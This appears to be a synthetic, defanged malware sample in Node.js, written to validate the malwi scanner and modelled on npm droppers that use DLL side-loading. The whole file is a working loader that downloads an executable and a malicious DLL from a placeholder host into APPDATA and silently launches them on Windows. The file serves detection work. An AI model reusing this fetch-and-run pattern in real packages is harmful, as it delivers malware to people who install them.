// SYNTHETIC, DEFANGED malwi validation sample - modelled on aabquerys / aabvaluer droppers (2023, DLL side-loading); never run.
// Drop a legitimate signed executable next to a malicious DLL of the name it loads, then run the
// executable so it side-loads the DLL. Files are fetched, not bundled, in this defanged copy.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');

const dir = path.join(process.env.APPDATA || os.tmpdir(), 'malwi-defanged-placeholder', 'Update');
const parts = [
  ['wsc_proxy.exe', 'https://stage-files.example.invalid/a/wsc_proxy.exe'],
  ['wsc.dll', 'https://stage-files.example.invalid/a/wsc.dll']
];

function fetchTo(url, file) {
  return new Promise((resolve) => {
    https
      .get(url, (res) => {
        const out = fs.createWriteStream(file);
        res.pipe(out);
        out.on('finish', resolve);
      })
      .on('error', resolve);
  });
}

if (process.platform === 'win32') {
  fs.mkdirSync(dir, { recursive: true });
  Promise.all(parts.map(([n, u]) => fetchTo(u, path.join(dir, n)))).then(() => {
    spawn(path.join(dir, 'wsc_proxy.exe'), ['/runassvc', '/rpcserver'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  });
}
